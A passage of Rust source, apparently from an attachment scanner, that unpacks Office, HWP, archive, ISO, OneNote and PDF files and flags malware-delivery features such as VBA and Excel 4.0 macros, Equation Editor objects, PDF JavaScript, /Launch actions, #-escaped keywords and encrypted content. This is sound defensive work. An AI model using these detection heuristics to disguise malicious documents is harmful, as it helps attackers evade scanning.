    String::from_utf16_lossy(&units)
}

/// Text of unknown encoding: UTF-16 (by BOM, or by NULs in every other
/// byte), else UTF-8 with replacements.
fn decode_text(b: &[u8]) -> String {
    if let Some(rest) = b.strip_prefix(&[0xFF, 0xFE]) {
        return utf16(rest, true);
    }
    if let Some(rest) = b.strip_prefix(&[0xFE, 0xFF]) {
        return utf16(rest, false);
    }
    let head = &b[..b.len().min(512)];
    let odd_nuls = head.iter().skip(1).step_by(2).filter(|&&c| c == 0).count();
    if head.len() >= 8 && odd_nuls * 3 >= head.len() / 2 {
        return utf16(b, true);
    }
    String::from_utf8_lossy(b).into_owned()
}

/// An XML part's text: as [`decode_text`], and UTF-16 without a byte order
/// mark in either byte order, found as XML's autodetection finds it (a
/// `<` and a character in UTF-16 at the start, Appendix F; or NULs in
/// every other byte). For XML only: a browser reads HTML without a byte
/// order mark as 8-bit text, so HTML must not be read as UTF-16 on such
/// signs (its links would vanish from the reading).
fn decode_xml(b: &[u8]) -> String {
    let head = &b[..b.len().min(512)];
    match head {
        [0xFF, 0xFE, ..] | [0xFE, 0xFF, ..] => return decode_text(b),
        [0x3C, 0, c, 0, ..] if c.is_ascii_graphic() => return utf16(b, true),
        [0, 0x3C, 0, c, ..] if c.is_ascii_graphic() => return utf16(b, false),
        _ => {}
    }
    let nuls = |skip: usize| {
        head.iter()
            .skip(skip)
            .step_by(2)
            .filter(|&&c| c == 0)
            .count()
    };
    let (even, odd) = (nuls(0), nuls(1));
    if head.len() >= 8 && even * 3 >= head.len() / 2 && even > odd {
        return utf16(b, false);
    }
    decode_text(b)
}

// ---------------------------------------------------------------------------
// OLE / CFB: Office 97-2003, HWP 5.0, MSI.

type Cfb<'a> = cfb::CompoundFile<Cursor<&'a [u8]>>;

struct CfbEntry {
    path: PathBuf,
    /// Components joined with `/`, no leading slash.
    name: String,
    stream: bool,
    len: u64,
}

impl CfbEntry {
    fn last(&self) -> &str {
        self.name.rsplit('/').next().unwrap_or("")
    }
}

/// Reads at most `cap` bytes of a stream (and no more than the budget).
fn read_stream(ctx: &mut Ctx, c: &mut Cfb, e: &CfbEntry, cap: u64) -> Option<Vec<u8>> {
    let cap = cap.min(ctx.unpack_left);
    let s = c.open_stream(&e.path).ok()?;
    let mut v = Vec::new();
    // A broken sector chain ends the read; what came before is kept.
    let _ = s.take(cap).read_to_end(&mut v);
    ctx.unpack_left = ctx.unpack_left.saturating_sub(v.len() as u64);
    Some(v)
}

fn cfb_family(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    let Ok(mut c) = cfb::CompoundFile::open(Cursor::new(b)) else {
        return;
    };
    let msi = c
        .root_entry()
        .clsid()
        .to_string()
        .eq_ignore_ascii_case("000c1084-0000-0000-c000-000000000046");
    let entries: Vec<CfbEntry> = c
        .walk()
        .take(MAX_ENTRIES)
        .map(|e| CfbEntry {
            name: e
                .path()
                .components()
                .filter_map(|p| match p {
                    Component::Normal(s) => Some(s.to_string_lossy()),
                    _ => None,
                })
                .collect::<Vec<_>>()
                .join("/"),
            path: e.path().to_path_buf(),
            stream: e.is_stream(),
            len: e.len(),
        })
        .collect();
    let header = entries
        .iter()
        .find(|e| e.stream && e.name == "FileHeader")
        .and_then(|e| read_stream(ctx, &mut c, e, 256));
    match header {
        Some(h) if h.starts_with(b"HWP Document File") => {
            n.r.detected = "hwp";
            hwp(ctx, n, &mut c, &entries, &h);
        }
        _ if msi => n.r.detected = "msi",
        _ => ole(ctx, n, &mut c, &entries),
    }
}

fn ole(ctx: &mut Ctx, n: &mut Node, c: &mut Cfb, entries: &[CfbEntry]) {
    let mut macros: Option<&str> = None;
    for e in entries {
        let parts: Vec<&str> = e.name.split('/').collect();
        let vba = parts
            .iter()
            .any(|p| p.eq_ignore_ascii_case("VBA") || p.eq_ignore_ascii_case("_VBA_PROJECT_CUR"))
            || (parts.len() == 1 && parts[0] == "Macros" && !e.stream)
            || e.last().eq_ignore_ascii_case("_VBA_PROJECT");
        if vba && macros.is_none() {
            macros = Some(&e.name);
        }
        if !e.stream {
            continue;
        }
        match e.last() {
            "\u{1}Ole10Native" => ole_package(ctx, n, c, e),
            "Equation Native" => n.doc.add(
                "attach.equation_editor",
                7,
                format!(
                    "{} holds an Equation Editor object ({}), a classic exploit vehicle",
                    n.shown,
                    shown(&e.name)
                ),
            ),
            "EncryptedPackage" => n.doc.add(
                "attach.encrypted_document",
                4,
                format!(
                    "{} is a password-protected Office document: its content cannot be checked",
                    n.shown
                ),
            ),
            "Workbook" | "Book" if parts.len() == 1 => {
                if let Some(s) = read_stream(ctx, c, e, PART_CAP) {
                    excel4(&mut n.doc, &n.shown, &s);
                }
            }
            "Package" | "CONTENTS" => member(ctx, n, &e.name, e.len, |ctx| {
                read_stream(ctx, c, e, e.len).map(|s| Unpacked::Data(Cow::Owned(s)))
            }),
            _ => {}
        }
    }
    if let Some(at) = macros {
        n.doc.add(
            "attach.ole_macros",
            6,
            format!("{} carries VBA macros ({})", n.shown, shown(at)),
        );
    }
}

/// An OLE Package object (`\x01Ole10Native`): a file wrapped in the
/// document, shown as an icon; its name and content become a member.
fn ole_package(ctx: &mut Ctx, n: &mut Node, c: &mut Cfb, e: &CfbEntry) {
    let Some(s) = read_stream(ctx, c, e, PART_CAP) else {
        return;
    };
    let Some((label, data)) = ole10native(&s) else {
        n.doc.add(
            "attach.ole_package",
            4,
            format!("{} embeds a packaged file ({})", n.shown, shown(&e.name)),
        );
        return;
    };
    n.doc.add(
        "attach.ole_package",
        4,
        format!("{} embeds a packaged file named {}", n.shown, shown(&label)),
    );
    let name = if label.is_empty() {
        e.name.clone()
    } else {
        label
    };
    member(ctx, n, &name, data.len() as u64, |_| {
        Some(Unpacked::Data(Cow::Borrowed(data)))
    });
}

/// Label and content of an Ole10Native stream: size, 2, label, source
/// path, two words, temporary path, content size, content.
fn ole10native(s: &[u8]) -> Option<(String, &[u8])> {
    let mut p = 6;
    let label = cstr(s, &mut p)?;
    let _source = cstr(s, &mut p)?;
    p += 8;
    let _temp = cstr(s, &mut p)?;
    let len = u32le(s, p)? as usize;
    let data = s.get(p + 4..)?;
    Some((
        String::from_utf8_lossy(label).into_owned(),
        &data[..len.min(data.len())],
    ))
}

/// Excel 97-2003 workbook globals: Excel 4.0 macro sheets and encryption.
fn excel4(doc: &mut Found, shown: &str, s: &[u8]) {
    let mut p = 0;
    for _ in 0..100_000 {
        let (Some(id), Some(len)) = (u16le(s, p), u16le(s, p + 2)) else {
            break;
        };
        let Some(body) = s.get(p + 4..p + 4 + len as usize) else {
            break;
        };
        match id {
            // BOUNDSHEET8: position, visibility, type (1: macro sheet), name.
            0x0085 if body.len() >= 8 && body[5] == 1 => {
                let cch = body[6] as usize;
                let raw = if body[7] & 1 != 0 {
                    decode_text(
                        &[&[0xFF, 0xFE][..], body.get(8..8 + 2 * cch).unwrap_or(&[])].concat(),
                    )
                } else {
                    String::from_utf8_lossy(body.get(8..8 + cch).unwrap_or(&[])).into_owned()
                };
                let vis = match body[4] & 3 {
                    1 => " (hidden)",
                    2 => " (very hidden)",
                    _ => "",
                };
                doc.add(
                    "attach.ole_macros",
                    6,
                    format!(
                        "{shown} has an Excel 4.0 macro sheet{}{vis}",
                        if raw.is_empty() {
                            String::new()
                        } else {
                            format!(" '{}'", clip(&shown_part(&raw), 60))
                        }
                    ),
                );
            }
            0x002F => doc.add(
                "attach.encrypted_document",
                4,
                format!("{shown} is a password-protected workbook: its content cannot be checked"),
            ),
            0x000A => break,
            _ => {}
        }
        p += 4 + len as usize;
    }
}

/// HWP 5.0: password, BinData items (PostScript, OLE) and the document
/// script.
fn hwp(ctx: &mut Ctx, n: &mut Node, c: &mut Cfb, entries: &[CfbEntry], header: &[u8]) {
    let props = u32le(header, 36).unwrap_or(0);
    let compressed = props & 1 != 0;
    if props & 2 != 0 {
        n.doc.add(
            "attach.encrypted_document",
            4,
            format!(
                "{} is a password-protected Hangul document: its content cannot be checked",
                n.shown
            ),
        );
    }
    for e in entries.iter().filter(|e| e.stream) {
        let l = e.name.to_ascii_lowercase();
        if l == "scripts/defaultjscript" {
            let Some(raw) = read_stream(ctx, c, e, PART_CAP) else {
                continue;
            };
            let text = hwp_inflate(ctx, &raw, compressed);
            script_check(&mut n.doc, &n.shown, &e.name, &text);
        } else if l.starts_with("bindata/") {
            hwp_bindata_name(&mut n.doc, &n.shown, &e.name);
            member(ctx, n, &e.name, e.len, |ctx| {
                hwp_item(ctx, c, e, compressed, l.ends_with(".ole"))
            });
        }
    }
}

/// A HWP BinData item: inflated when it inflates (items may be stored),
/// an OLE item cut to its CFB (it follows a 4-byte size).
fn hwp_item(
    ctx: &mut Ctx,
    c: &mut Cfb,
    e: &CfbEntry,
    compressed: bool,
    ole: bool,
) -> Option<Unpacked<'static>> {
    if e.len > ctx.unpack_left {
        return Some(Unpacked::OverBudget);
    }
    let raw = read_stream(ctx, c, e, e.len)?;
    let d = match unpack(ctx, &raw, Codec::Deflate, None) {
        Unpacked::Data(d) if compressed || !d.is_empty() => d.into_owned(),
        Unpacked::Bomb(why) => return Some(Unpacked::Bomb(why)),
        _ => raw,
    };
    let at = match ole {
        true => find(&d[..d.len().min(32)], CFB_MAGIC).unwrap_or(0),
        false => 0,
    };
    let d = if at > 0 { d[at..].to_vec() } else { d };
    Some(Unpacked::Data(Cow::Owned(d)))
}

/// A HWP stream: raw deflate when the document is compressed and the
/// stream inflates, as stored otherwise.
fn hwp_inflate<'a>(ctx: &mut Ctx, raw: &'a [u8], compressed: bool) -> Cow<'a, [u8]> {
    if compressed {
        if let Unpacked::Data(d) = unpack(ctx, raw, Codec::Deflate, None) {
            return d;
        }
    }
    Cow::Borrowed(raw)
}

// ---------------------------------------------------------------------------
// ISO 9660, gzip, tar, RAR, 7z, OneNote.

fn iso(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    const SECTOR: usize = 2048;
    let root_of = |d: &[u8]| Some((u32le(d, 156 + 2)?, u32le(d, 156 + 10)?));
    let (mut pvd, mut joliet, mut bs) = (None, None, SECTOR);
    for i in 16..64 {
        let Some(d) = b.get(i * SECTOR..(i + 1) * SECTOR) else {
            break;
        };
        if &d[1..6] != b"CD001" {
            break;
        }
        match d[0] {
            1 => {
                bs = u16le(d, 128)
                    .map(usize::from)
                    .filter(|s| matches!(s, 512 | 1024 | 2048))
                    .unwrap_or(SECTOR);
                pvd = root_of(d);
            }
            2 if matches!(&d[88..91], b"%/@" | b"%/C" | b"%/E") => joliet = root_of(d),
            255 => break,
            _ => {}
        }
    }
    let Some(((lba, size), ucs2)) = joliet.map(|r| (r, true)).or(pvd.map(|r| (r, false))) else {
        return;
    };
    let mut stack = vec![(lba, size, String::new(), 0u32)];
    let mut seen_dirs = HashSet::new();
    let mut records = 0;
    while let Some((lba, size, prefix, level)) = stack.pop() {
        if !seen_dirs.insert(lba) {
            continue;
        }
        let dir = clip_slice(b, u64::from(lba) * bs as u64, u64::from(size).min(1 << 20));
        let mut p = 0;
        while p < dir.len() && records < MAX_ENTRIES {
            let len = dir[p] as usize;
            if len == 0 {
                // Records do not cross sectors: the rest of this one is padding.
                p = (p / bs + 1) * bs;
                continue;
            }
            let Some(rec) = dir.get(p..p + len).filter(|r| r.len() >= 34) else {
                break;
            };
            p += len;
            records += 1;
            let (Some(ext_lba), Some(dsize)) = (u32le(rec, 2), u32le(rec, 10)) else {
                continue;
            };
            let nlen = rec[32] as usize;
            let Some(raw) = rec.get(33..33 + nlen) else {
                continue;
            };
            if raw == [0] || raw == [1] {
                continue;
            }
            let mut name = if ucs2 {
                utf16(raw, false)
            } else {
                String::from_utf8_lossy(raw).into_owned()
            };
            if let Some((stem, ver)) = name.rsplit_once(';') {
                if ver.chars().all(|c| c.is_ascii_digit()) {
                    name = stem.to_owned();
                }
            }
            let path = if prefix.is_empty() {
                name
            } else {
                format!("{prefix}/{name}")
            };
            if rec[25] & 2 != 0 {
                if level < 8 {
                    stack.push((ext_lba, dsize, path, level + 1));
                }
                continue;
            }
            let data = clip_slice(b, u64::from(ext_lba) * bs as u64, u64::from(dsize));
            member(ctx, n, &path, u64::from(dsize), |ctx| {
                Some(unpack(ctx, data, Codec::Stored, None))
            });
        }
    }
}

fn gzip(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    let Some(&flags) = b.get(3) else {
        return;
    };
    let mut p = 10usize;
    if flags & 4 != 0 {
        let Some(x) = u16le(b, p) else {
            return;
        };
        p += 2 + x as usize;
    }
    let mut inner = None;
    if flags & 8 != 0 {
        let s = p;
        while b.get(p).is_some_and(|&c| c != 0) {
            p += 1;
        }
        inner = b.get(s..p).map(|s| String::from_utf8_lossy(s).into_owned());
        p += 1;
    }
    if flags & 16 != 0 {
        while b.get(p).is_some_and(|&c| c != 0) {
            p += 1;
        }
        p += 1;
    }
    if flags & 2 != 0 {
        p += 2;
    }
    let Some(body) = b.get(p..) else {
        return;
    };
    let name = inner.filter(|s| !s.is_empty()).unwrap_or_else(|| {
        let base = base_name(&n.r.name);
        let l = base.to_ascii_lowercase();
        if l.ends_with(".tgz") {
            format!("{}.tar", &base[..base.len() - 4])
        } else if l.ends_with(".gz") {
            base[..base.len() - 3].to_owned()
        } else {
            "content".to_owned()
        }
    });
    member(ctx, n, &name, 0, |ctx| {
        Some(unpack(ctx, body, Codec::Deflate, None))
    });
}

fn tar(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    let mut p = 0usize;
    for _ in 0..MAX_ENTRIES {
        let Some(h) = b.get(p..p + 512) else {
            break;
        };
        if h.iter().all(|&c| c == 0) {
            break;
        }
        let field = |r: std::ops::Range<usize>| {
            let f = &h[r];
            String::from_utf8_lossy(&f[..f.iter().position(|&c| c == 0).unwrap_or(f.len())])
                .into_owned()
        };
        let mut name = field(0..100);
        let prefix = field(345..500);
        if h.get(257..262) == Some(b"ustar") && !prefix.is_empty() {
            name = format!("{prefix}/{name}");
        }
        let size = h[124..136]
            .iter()
            .skip_while(|c| **c == b' ')
            .take_while(|c| (b'0'..=b'7').contains(*c))
            .fold(0u64, |a, &c| {
                a.saturating_mul(8).saturating_add(u64::from(c - b'0'))
            });
        let data_at = p + 512;
        if matches!(h[156], b'0' | 0 | b'7') {
            let data = clip_slice(b, data_at as u64, size);
            member(ctx, n, &name, size, |ctx| {
                Some(unpack(ctx, data, Codec::Stored, None))
            });
        }
        let Some(next) = usize::try_from(size.div_ceil(512).saturating_mul(512))
            .ok()
            .and_then(|s| data_at.checked_add(s))
        else {
            break;
        };
        p = next;
    }
}

/// A RAR member as listed in its headers.
struct Listed {
    name: String,
    size: u64,
    encrypted: bool,
    dir: bool,
}

fn rar(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    let mut listed = Vec::new();
    let headers_encrypted = if b.starts_with(b"Rar!\x1a\x07\x01\x00") {
        rar5(b, &mut listed)
    } else {
        rar4(b, &mut listed)
    };
    let files = listed.iter().filter(|m| !m.dir).count();
    let enc = listed.iter().filter(|m| !m.dir && m.encrypted).count();
    if headers_encrypted {
        n.doc.add(
            "attach.encrypted_archive",
            5,
            format!(
                "{} is password-protected, file names included: its content cannot be checked",
                n.shown
            ),
        );
    } else {
        encrypted_members(n, enc, files);
    }
    for m in listed.iter().filter(|m| !m.dir) {
        // Listed only: RAR content is not unpacked.
        member(ctx, n, &m.name, m.size, |_| None);
    }
}

/// RAR 1.5-4.x headers; true when the headers themselves are encrypted.
fn rar4(b: &[u8], out: &mut Vec<Listed>) -> bool {
    let mut p = 7usize;
    for _ in 0..MAX_ENTRIES {
        let (Some(&typ), Some(flags), Some(hsize)) =
            (b.get(p + 2), u16le(b, p + 3), u16le(b, p + 5))
        else {
            break;
        };
        let hsize = hsize as usize;
        if hsize < 7 {
            break;
        }
        let mut add = 0usize;
        match typ {
            0x73 if flags & 0x80 != 0 => return true,
            0x74 => {
                let (Some(pack), Some(unp), Some(nsize)) =
                    (u32le(b, p + 7), u32le(b, p + 11), u16le(b, p + 26))
                else {
                    break;
                };
                add = pack as usize;
                let at = p + 32 + if flags & 0x100 != 0 { 8 } else { 0 };
                let Some(mut raw) = b.get(at..at + nsize as usize) else {
                    break;
                };
                if flags & 0x200 != 0 {
                    raw = &raw[..raw.iter().position(|&c| c == 0).unwrap_or(raw.len())];
                }
                out.push(Listed {
                    name: String::from_utf8_lossy(raw).replace('\\', "/"),
                    size: u64::from(unp),
                    encrypted: flags & 4 != 0,
                    dir: flags & 0xE0 == 0xE0,
                });
            }
            0x7b => break,
            _ if flags & 0x8000 != 0 => add = u32le(b, p + 7).unwrap_or(0) as usize,
            _ => {}
        }
        let Some(next) = p.checked_add(hsize).and_then(|x| x.checked_add(add)) else {
            break;
        };
        p = next;
    }
    false
}

/// A RAR 5 variable-length integer at `*p`, advancing it.
fn vint(b: &[u8], p: &mut usize) -> Option<u64> {
    let mut v = 0u64;
    for i in 0..10 {
        let c = *b.get(*p)?;
        *p += 1;
        v |= u64::from(c & 0x7f) << (7 * i);
        if c & 0x80 == 0 {
            return Some(v);
        }
    }
    None
}

/// RAR 5 headers; true when the headers themselves are encrypted.
fn rar5(b: &[u8], out: &mut Vec<Listed>) -> bool {
    let mut p = 8usize;
    for _ in 0..MAX_ENTRIES {
        let Some(mut q) = p.checked_add(4) else {
            break;
        };
        let Some(hsize) = vint(b, &mut q).and_then(|s| usize::try_from(s).ok()) else {
            break;
        };
        let Some(h) = q.checked_add(hsize).and_then(|e| b.get(q..e)) else {
            break;
        };
        let hend = q + hsize;
        let mut r = 0;
        let (Some(htype), Some(hflags)) = (vint(h, &mut r), vint(h, &mut r)) else {
            break;
        };
        let extra = if hflags & 1 != 0 {
            vint(h, &mut r).unwrap_or(0)
        } else {
            0
        };
        let data = if hflags & 2 != 0 {
            vint(h, &mut r).unwrap_or(0)
        } else {
            0
        };
        match htype {
            4 => return true,
            5 => break,
            2 => {
                if let Some(m) = rar5_file(h, r, extra) {
                    out.push(m);
                }
            }
            _ => {}
        }
        let Some(next) = usize::try_from(data).ok().and_then(|d| hend.checked_add(d)) else {
            break;
        };
        p = next;
    }
    false
}

fn rar5_file(h: &[u8], mut r: usize, extra: u64) -> Option<Listed> {
    let fflags = vint(h, &mut r)?;
    let size = vint(h, &mut r)?;
    vint(h, &mut r)?; // attributes
    if fflags & 2 != 0 {
        r += 4;
    }
    if fflags & 4 != 0 {
        r += 4;
    }
    vint(h, &mut r)?; // compression
    vint(h, &mut r)?; // host OS
    let nlen = usize::try_from(vint(h, &mut r)?).ok()?;
    let name = h.get(r..r.checked_add(nlen)?)?;
    let mut encrypted = false;
    let mut x = h.len().saturating_sub(usize::try_from(extra).ok()?);
    while x < h.len() {
        let Some(size) = vint(h, &mut x).and_then(|s| usize::try_from(s).ok()) else {
            break;
        };
        let start = x;
        if vint(h, &mut x) == Some(1) {
            encrypted = true;
        }
        x = start.saturating_add(size);
    }
    Some(Listed {
        name: String::from_utf8_lossy(name).into_owned(),
        size,
        encrypted,
        dir: fflags & 1 != 0,
    })
}

/// 7z: the AES coder (06 F1 07 01) in the next header means encrypted
/// content or headers. Member names sit in a compressed header and are not
/// read.
fn seven_zip(n: &mut Node, b: &[u8]) {
    let (Some(off), Some(size)) = (u64le(b, 12), u64le(b, 20)) else {
        return;
    };
    let hdr = clip_slice(b, off.saturating_add(32), size);
    if find(hdr, &[0x06, 0xF1, 0x07, 0x01]).is_some() {
        n.doc.add(
            "attach.encrypted_archive",
            5,
            format!(
                "{} is a password-protected 7z archive (AES): its content cannot be checked",
                n.shown
            ),
        );
    }
}

/// OneNote: files embedded in the notebook (FileDataStoreObject) become
/// members.
fn onenote(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    const FILE_DATA: &[u8] = &[
        0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E,
        0xAC,
    ];
    let mut i = 0;
    let mut k = 0;
    while k < 100 {
        let Some(at) = b.get(i..).and_then(|r| find(r, FILE_DATA)).map(|p| i + p) else {
            break;
        };
        i = at + FILE_DATA.len();
        let Some(len) = u64le(b, at + 16) else {
            break;
        };
        k += 1;
        let name = format!("embedded file {k}");
        let data = clip_slice(b, at as u64 + 36, len);
        member(ctx, n, &name, len, |ctx| {
            Some(unpack(ctx, data, Codec::Stored, None))
        });
    }
}

// ---------------------------------------------------------------------------
// PDF.

#[derive(Default)]
struct PdfTally {
    js: usize,
    open: usize,
    aa: usize,
    launch: usize,
    embedded: usize,
    uri: usize,
    encrypt: bool,
    submit: usize,
    /// Keywords written with `#xx` escapes, as written.
    hidden: Vec<String>,
    /// File names (`/F`, `/UF` strings) that Windows would run.
    files: Vec<String>,
    /// `/URI` targets written as strings (ciphertext in an encrypted file).
    links: Vec<Link>,
}

fn pdf(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    let mut t = PdfTally::default();
    pdf_names(b, &mut t);
    pdf_object_streams(ctx, b, &mut t);
    let s = &n.shown;
    let doc = &mut n.doc;
    if t.js > 0 {
        doc.add(
            "attach.pdf_javascript",
            6,
            format!(
                "{s} contains JavaScript (/JavaScript or /JS, {} times)",
                t.js
            ),
        );
    }
    if t.open + t.aa > 0 {
        let which = match (t.open > 0, t.aa > 0) {
            (true, true) => "/OpenAction, /AA",
            (true, false) => "/OpenAction",
            _ => "/AA",
        };
        let w = if t.js > 0 || t.launch > 0 { 3 } else { 1 };
        doc.add(
            "attach.pdf_auto_action",
            w,
            format!("{s} runs an action by itself when opened or viewed ({which})"),
        );
    }
    if t.launch > 0 {
        doc.add(
            "attach.pdf_launch",
            8,
            format!("{s} can launch a program (/Launch)"),
        );
    }
    if !t.files.is_empty() {
        doc.add(
            "attach.pdf_embedded_file",
            8,
            format!("{s} names a file Windows would run: {}", t.files.join(", ")),
        );
    } else if t.embedded > 0 {
        doc.add(
            "attach.pdf_embedded_file",
            4,
            format!("{s} carries an embedded file (/EmbeddedFile)"),
        );
    }
    if !t.hidden.is_empty() {
        doc.add(
            "attach.pdf_obfuscated",
            5,
            format!(
                "{s} disguises PDF keywords with #-escapes ({})",
                t.hidden.join(", ")
            ),
        );
    }
    if t.submit > 0 {
        doc.add(
            "attach.pdf_submit_form",
            3,
            format!("{s} has a form that sends what is typed (/SubmitForm)"),
        );
    }
    if t.uri > 0 {
        doc.add(
            "attach.pdf_links",
            1,
            format!(
                "{s} has {} link{} (/URI)",
                t.uri,
                if t.uri == 1 { "" } else { "s" }
            ),
        );
    }
    if t.encrypt {
        doc.add(
            "attach.encrypted_document",
            2,
            format!("{s} is encrypted (/Encrypt): its content cannot be fully checked"),
        );
    }
    // An encrypted file's strings are ciphertext, which reads as no web
    // link; the links that do read are kept all the same (a stray
    // `/Encrypt` must not hide them).
    n.r.links = t.links;
}

/// Web links a document holds, at most this many per file.
pub const MAX_DOC_LINKS: usize = 50;

/// Keeps `url` among a document's links if it is a web link (`http`,
/// `https`, `//`, `www.`; a `//` one is kept as `https://`) with a readable
/// host, once, within
/// [`MAX_DOC_LINKS`]; `from` says where it was found (`pdf`, `ooxml`, or an
/// HTML file's `a` or `form`), `text` is an HTML anchor's, cut at 200
/// characters.
fn doc_link(links: &mut Vec<Link>, url: &str, text: Option<&str>, from: &'static str) {
    // Browsers drop tabs and line breaks from a URL (WHATWG URL), so a
    // link split by them still opens: read it as they do. Other control
    // and invisible characters stay (output escapes them); in a host they
    // make it unreadable, below.
    let url: String = url
        .chars()
        .filter(|c| !matches!(c, '\t' | '\r' | '\n'))
        .collect();
    let url = url.trim();
    let l = url.get(..8).unwrap_or(url).to_ascii_lowercase();
    let web = l.starts_with("http://")
        || l.starts_with("https://")
        || l.starts_with("//")
        || l.starts_with("www.");
    if !web || links.len() >= MAX_DOC_LINKS {
        return;
    }
    let url: String = if l.starts_with("//") {
        format!("https:{url}")
    } else {
        url.to_string()
    }
    .chars()
    .take(2_000)
    .collect();
    if links.iter().any(|k| k.url == url) {
        return;
    }
    let (host, _) = indicators::host_of(&url);
    let readable = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '[' | ']' | ':'));
    if readable {
        links.push(Link {
            url,
            host,
            text: text.map(|t| t.chars().take(200).collect()),
            from,
        });
    }
}

/// PDF whitespace and delimiters end a name.
fn pdf_name_char(c: u8) -> bool {
    !matches!(
        c,
        0 | b'\t'
            | b'\n'
            | 0x0c
            | b'\r'
            | b' '
            | b'('
            | b')'
            | b'<'
            | b'>'
            | b'['
            | b']'
            | b'{'
            | b'}'
            | b'/'
            | b'%'
    )
}

/// Calls `f(decoded, written, end)` for each name in `b`.
fn each_pdf_name(b: &[u8], mut f: impl FnMut(&[u8], &[u8], usize)) {
    let mut i = 0;
    while let Some(off) = b.get(i..).and_then(|r| r.iter().position(|&c| c == b'/')) {
        let s = i + off + 1;
        let mut j = s;
        while j < b.len() && pdf_name_char(b[j]) {
            j += 1;
        }
        i = j;
        let raw = &b[s..j];
        if raw.is_empty() || raw.len() > 64 {
            continue;
        }
        if raw.contains(&b'#') {
            let mut d = Vec::with_capacity(raw.len());
            let mut k = 0;
            while k < raw.len() {
                let hex = raw.get(k + 1..k + 3).and_then(|h| {
                    let h = std::str::from_utf8(h).ok()?;
                    u8::from_str_radix(h, 16).ok()
                });
                match (raw[k], hex) {
                    (b'#', Some(v)) => {
                        d.push(v);
                        k += 3;
                    }
                    (c, _) => {
                        d.push(c);
                        k += 1;
                    }
                }
            }
            f(&d, raw, j);
        } else {
            f(raw, raw, j);
        }
    }
}

fn pdf_names(b: &[u8], t: &mut PdfTally) {
    each_pdf_name(b, |name, raw, end| {
        let counter = match name {
            b"JavaScript" | b"JS" => Some(&mut t.js),
            b"OpenAction" => Some(&mut t.open),
            b"AA" => Some(&mut t.aa),
            b"Launch" => Some(&mut t.launch),
            b"EmbeddedFile" | b"EmbeddedFiles" => Some(&mut t.embedded),
            b"SubmitForm" => Some(&mut t.submit),
            _ => None,
        };
        // Whether the name is one of the keywords (whose #-escaped
        // spellings are evidence).
        let key = match (counter, name) {
            (Some(c), _) => {
                *c += 1;
                true
            }
            (None, b"URI") => {
                let v = skip_ws(b, end);
                if b.get(v) == Some(&b'(')
                    || (b.get(v) == Some(&b'<') && b.get(v + 1) != Some(&b'<'))
                {
                    t.uri += 1;
                }
                if t.links.len() < MAX_DOC_LINKS {
                    if let Some(u) = pdf_literal(b, v).or_else(|| pdf_hex_string(b, v)) {
                        doc_link(&mut t.links, &u, None, "pdf");
                    }
                }
                true
            }
            (None, b"Encrypt") => {
                t.encrypt = true;
                true
            }
            (None, b"F" | b"UF") => {
                if let Some(s) = pdf_literal(b, skip_ws(b, end)) {
                    let runs_it = extension(&s).is_some_and(|e| runs(&e));
                    if runs_it && t.files.len() < 5 && !t.files.contains(&s) {
                        t.files.push(clip(&shown(&s), 80));
                    }
                }
                false
            }
            _ => false,
        };
        if key && raw != name && t.hidden.len() < 5 {
            let w = format!("/{}", String::from_utf8_lossy(raw));
            if !t.hidden.contains(&w) {
                t.hidden.push(w);
            }
        }
    });
}

fn skip_ws(b: &[u8], mut i: usize) -> usize {
    while b
        .get(i)
        .is_some_and(|c| matches!(c, 0 | b'\t' | b'\n' | 0x0c | b'\r' | b' '))
    {
        i += 1;
    }
    i
}

/// A hex string `< ... >` at `i` (not a dictionary's `<<`), cut at 256
/// bytes; `None` at the first byte that is neither a hex digit nor
/// whitespace, or if it does not close within 2 kB (and is not cut).
fn pdf_hex_string(b: &[u8], i: usize) -> Option<String> {
    if b.get(i) != Some(&b'<') || b.get(i + 1) == Some(&b'<') {
        return None;
    }
    let mut digits = Vec::new();
    let mut closed = false;
    for &c in b.get(i + 1..)?.iter().take(2048) {
        match c {
            b'>' => closed = true,
            c if c.is_ascii_whitespace() => {}
            c => digits.push((c as char).to_digit(16)? as u8),
        }
        if closed || digits.len() >= 512 {
            break;
        }
    }
    if !closed && digits.len() < 512 {
        return None;
    }
    let bytes: Vec<u8> = digits
        .chunks(2)
        .map(|p| p[0] << 4 | p.get(1).copied().unwrap_or(0))
        .collect();
    Some(decode_text(&bytes))
}

/// A literal string `( ... )` at `i`, escapes dropped, cut at 256 bytes.
fn pdf_literal(b: &[u8], i: usize) -> Option<String> {
    if b.get(i) != Some(&b'(') {
        return None;
    }
    let mut out = Vec::new();
    let mut k = i + 1;
    let mut depth = 0;
    while let Some(&c) = b.get(k) {
        if out.len() >= 256 {
            break;
        }
        match c {
            b'\\' => {
                // The escapes of PDF 32000-1 7.3.4.2: `\n`, `\ddd` (octal,
                // `bit\056ly` is `bit.ly`), a line break continued...
                k += 1;
                let Some(&e) = b.get(k) else { break };
                k += 1;
                match e {
                    b'n' => out.push(b'\n'),
                    b'r' => out.push(b'\r'),
                    b't' => out.push(b'\t'),
                    b'b' => out.push(8),
                    b'f' => out.push(12),
                    b'0'..=b'7' => {
                        let mut v = u32::from(e - b'0');
                        for _ in 0..2 {
                            match b.get(k) {
                                Some(&d @ b'0'..=b'7') => {
                                    v = v * 8 + u32::from(d - b'0');
                                    k += 1;
                                }
                                _ => break,
                            }
                        }
                        out.push(v as u8);
                    }
                    b'\r' => {
                        if b.get(k) == Some(&b'\n') {
                            k += 1;
                        }
                    }
                    b'\n' => {}
                    // `\(`, `\)`, `\\`, and any other letter as itself.
                    e => out.push(e),
                }
                continue;
            }
            b'(' => depth += 1,
            b')' if depth == 0 => break,
            b')' => depth -= 1,
            _ => {}
        }
        out.push(c);
        k += 1;
    }
    Some(decode_text(&out))
}

/// Object streams (`/Type /ObjStm`, Flate) hide dictionaries from a plain
/// scan: inflate them, within the budget, and scan again.
fn pdf_object_streams(ctx: &mut Ctx, b: &[u8], t: &mut PdfTally) {
    let mut i = 0;
